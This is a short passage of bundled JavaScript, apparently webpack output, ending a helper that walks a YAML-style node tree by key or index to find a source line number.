        else if (node.isSeq() && typeof segment === 'number')
            next = node.items()[segment];
        if (next === undefined)
            break;
        line = next.keyNode ? next.keyPos().line : next.ownLine();
        node = next;
    }
    return Math.max(line, 1);
}


/***/ })

};
